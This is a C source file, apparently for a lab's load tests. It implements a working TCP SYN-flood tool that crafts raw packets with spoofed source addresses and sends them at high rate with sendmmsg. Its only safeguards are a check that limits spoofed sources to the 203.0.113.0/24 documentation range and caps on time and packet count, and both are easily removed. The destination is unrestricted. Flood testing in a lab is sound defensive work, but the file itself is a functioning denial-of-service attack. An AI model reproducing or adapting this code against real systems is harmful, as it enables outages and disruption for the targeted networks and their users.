// syn-flood: plain TCP SYNs from spoofed sources, for the lab's flood tests and nothing else.
//
// usage: syn-flood DST DPORT SRC_PREFIX SECONDS MAX_PACKETS
//
// Every source lies in SRC_PREFIX, which must lie inside 203.0.113.0/24 (the lab's outside world,
// RFC 5737); anything else is refused. Sources and ports change on every packet (a real flood's new
// flows), drawn from a fixed-seed generator. Stops after SECONDS or MAX_PACKETS, whichever comes first,
// and prints `sent N in S s`. Built from source by the test that runs it.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH 64
#define LEN 44 /* IPv4 20 + TCP 20 + MSS option 4 */

static double now(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return ts.tv_sec + ts.tv_nsec / 1e9;
}

static uint32_t rng = 0x9e3779b9;
static uint32_t next(void) { /* xorshift32 */
  rng ^= rng << 13;
  rng ^= rng >> 17;
  rng ^= rng << 5;
  return rng;
}

static uint16_t csum(const uint8_t *p, size_t n, uint32_t sum) {
  for (size_t i = 0; i + 1 < n; i += 2) sum += (uint32_t)p[i] << 8 | p[i + 1];
  if (n & 1) sum += (uint32_t)p[n - 1] << 8;
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return (uint16_t)~sum;
}

int main(int argc, char **argv) {
  if (argc != 6) {
    fprintf(stderr, "usage: syn-flood DST DPORT SRC_PREFIX SECONDS MAX_PACKETS\n");
    return 2;
  }
  struct in_addr dst, net;
  char prefix[32];
  snprintf(prefix, sizeof prefix, "%s", argv[3]);
  char *slash = strchr(prefix, '/');
  int bits = slash ? atoi(slash + 1) : 32;
  if (slash) *slash = 0;
  if (!inet_aton(argv[1], &dst) || !inet_aton(prefix, &net) || bits < 24 || bits > 32) {
    fprintf(stderr, "syn-flood: bad address or prefix\n");
    return 2;
  }
  uint32_t base = ntohl(net.s_addr), lab = 0xcb007100; /* 203.0.113.0/24 */
  if ((base & 0xffffff00) != lab) {
    fprintf(stderr, "syn-flood: %s is outside 203.0.113.0/24; refusing\n", argv[3]);
    return 2;
  }
  uint32_t hosts = 1u << (32 - bits);
  base &= ~(hosts - 1);
  uint16_t dport = (uint16_t)atoi(argv[2]);
  double seconds = atof(argv[4]);
  long long limit = atoll(argv[5]);

  int s = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  if (s < 0) {
    perror("syn-flood: socket");
    return 1;
  }
  int buf = 1 << 22;
  setsockopt(s, SOL_SOCKET, SO_SNDBUF, &buf, sizeof buf);

  static uint8_t pkt[BATCH][LEN];
  struct mmsghdr msgs[BATCH];
  struct iovec iov[BATCH];
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr = dst};
  memset(msgs, 0, sizeof msgs);
  for (int i = 0; i < BATCH; i++) {
    iov[i].iov_base = pkt[i];
    iov[i].iov_len = LEN;
    msgs[i].msg_hdr.msg_iov = &iov[i];
    msgs[i].msg_hdr.msg_iovlen = 1;
    msgs[i].msg_hdr.msg_name = &to;
    msgs[i].msg_hdr.msg_namelen = sizeof to;
  }

  long long sent = 0;
  double start = now(), end = start + seconds;
  while (sent < limit && now() < end) {
    int n = limit - sent < BATCH ? (int)(limit - sent) : BATCH;
    for (int i = 0; i < n; i++) {
      uint8_t *p = pkt[i], *t = p + 20;
      uint32_t r = next();
      /* the network and broadcast addresses are no hosts */
      uint32_t host = hosts > 2 ? 1 + r % (hosts - 2) : r % hosts;
      uint32_t src = htonl(base + host);
      uint16_t sport = htons((uint16_t)(1024 + (next() % 64512)));
      uint32_t seq = next();
      /* RFC 791 §3.1: the kernel fills the checksum and id for IP_HDRINCL */
      memset(p, 0, LEN);
      p[0] = 0x45;
      p[2] = 0;
      p[3] = LEN;
      p[6] = 0x40; /* DF */
      p[8] = 64;
      p[9] = IPPROTO_TCP;
      memcpy(p + 12, &src, 4);
      memcpy(p + 16, &dst.s_addr, 4);
      /* RFC 9293 §3.1, with an MSS option (§3.7.1) so the nodes answer as to a real client */
      memcpy(t, &sport, 2);
      t[2] = dport >> 8;
      t[3] = dport & 0xff;
      memcpy(t + 4, &seq, 4);
      t[12] = 6 << 4;
      t[13] = 0x02;
      t[14] = 0xfa;
      t[15] = 0xf0;
      t[20] = 2;
      t[21] = 4;
      t[22] = 1460 >> 8;
      t[23] = 1460 & 0xff;
      uint32_t pseudo = 0;
      for (int k = 12; k < 20; k += 2) pseudo += (uint32_t)p[k] << 8 | p[k + 1];
      pseudo += IPPROTO_TCP + (LEN - 20);
      uint16_t c = csum(t, LEN - 20, pseudo);
      t[16] = c >> 8;
      t[17] = c & 0xff;
    }
    int k = sendmmsg(s, msgs, n, 0);
    if (k > 0) sent += k;
  }
  printf("sent %lld in %.2f s\n", sent, now() - start);
  return 0;
}
